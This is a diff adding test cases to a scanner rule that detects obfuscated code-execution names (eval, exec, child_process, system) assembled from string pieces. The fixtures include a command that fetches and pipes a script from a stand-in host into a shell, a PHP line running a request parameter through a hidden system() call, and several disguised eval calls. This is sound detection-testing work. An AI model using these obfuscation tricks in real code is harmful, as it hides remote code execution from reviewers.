@@ -63,6 +63,44 @@ describe('text encoded twice, decoded', () => {
   });
 });
 
+describe('obfuscated-code: a code-execution, process-module or command name put together from pieces (2026-12-01)', () => {
+  const found = (path: string, lines: string[], test = false) =>
+    scanAddedCode(path, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}`, undefined, { test })
+      .filter((f) => f.id === 'obfuscated-code')
+      .map((f) => `${f.severity}:${f.line}`);
+
+  it('reports the name called, looked up and called, or a command handed to a process, high (JavaScript, Python, PHP)', () => {
+    expect(found('src/util/run.js', ["globalThis['ev' + 'al'](payload);"])).toEqual(['high:1']);
+    expect(found('src/util/run.js', ["cp[['ex', 'ec', 'Sync'].join('')]('id');"])).toEqual(['high:1']);
+    expect(found('src/util/run.js', ['require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).execSync(cmd);'])).toEqual(['high:1']);
+    expect(found('src/util/run.js', ["execSync('cu' + 'rl -s https://x.example/p.sh | sh');"])).toEqual(['high:1']);
+    expect(found('pkg/util.py', ["getattr(__builtins__, 'ev' + 'al')(payload)"])).toEqual(['high:1']);
+    expect(found('pkg/util.py', ["__import__('o' + 's').system('id')"])).toEqual(['high:1']);
+    expect(found('pkg/util.py', ['getattr(__builtins__, chr(101)+chr(118)+chr(97)+chr(108))(p)'])).toEqual(['high:1']);
+    expect(found('setup.py', ["importlib.import_module('sub' + 'process').run(['curl', URL])"])).toEqual(['high:1']);
+    expect(found('src/Util.php', ["$out = ('sys' . 'tem')($_GET['c']);"])).toEqual(['high:1']);
+  });
+
+  it('is medium for a module loaded or a name only looked up, high when a later line runs one; a step lower in tests', () => {
+    expect(found('src/util/run.js', ["const cp = require(['child', 'process'].join('_'));"])).toEqual(['medium:1']);
+    expect(found('pkg/util.py', ["f = getattr(builtins, ''.join(['ev', 'al']))"])).toEqual(['medium:1']);
+    expect(found('src/util/run.js', ["const cp = require('child_' + 'process');", "cp[['ex', 'ec'].join('')]('id');"])).toEqual(['high:2']);
+    expect(found('test/run.test.js', ["globalThis['ev' + 'al'](payload);"], true)).toEqual(['medium:1']);
+  });
+
+  it("is quiet for the same words split in a list or a pattern (a scanner's own terms), ordinary joins, a comment, a string", () => {
+    expect(found('src/scanner/terms.js', ["const DYNAMIC_TERMS = ['ev' + 'al', 'ex' + 'ec', 'Funct' + 'ion'];"])).toEqual([]);
+    expect(found('src/scanner/rules.py', ["dangerous_func = 'ev' + 'al'"])).toEqual([]);
+    expect(found('src/scanner/match.js', ["const r = computeRegexMatches('ev' + 'al', 'ev' + 'al(x)');"])).toEqual([]);
+    expect(found('src/ui.js', ["const cls = 'btn' + '-primary';", "const key = ['ab', 'cd'].join('');", "const mod = require('./' + 'lib');"])).toEqual([]);
+    expect(found('src/util/run.js', ["exec('curl ' + url);", "const s = \"const fn = this['ev' + 'al']; fn('x');\";"])).toEqual([]);
+    expect(found('src/util/run.js', ["// globalThis['ev' + 'al'](payload) is what the scanner catches", " * globalThis['ev' + 'al'](payload)"])).toEqual([]);
+    // A module the file loaded by its plain name, spelled in pieces to keep a bundler from following it (bcoin's workers for browserify).
+    const respelled = scanAddedCode('lib/workers.js', "@@ -1,2 +1,2 @@\n-var cp = require('child_process');\n+    cp = require('child_' + 'process');\n context").filter((f) => f.id === 'obfuscated-code');
+    expect(respelled).toEqual([]);
+  });
+});
+
 describe('obfuscator output: javascript-obfuscator names', () => {
   const added = (...l: string[]) => `@@ -1,0 +1,${l.length} @@\n${l.map((x) => `+${x}`).join('\n')}`;
   it('reports code written in `_0x…` names (the chalk and debug payloads of September 2025), on one line or spread over several', () => {
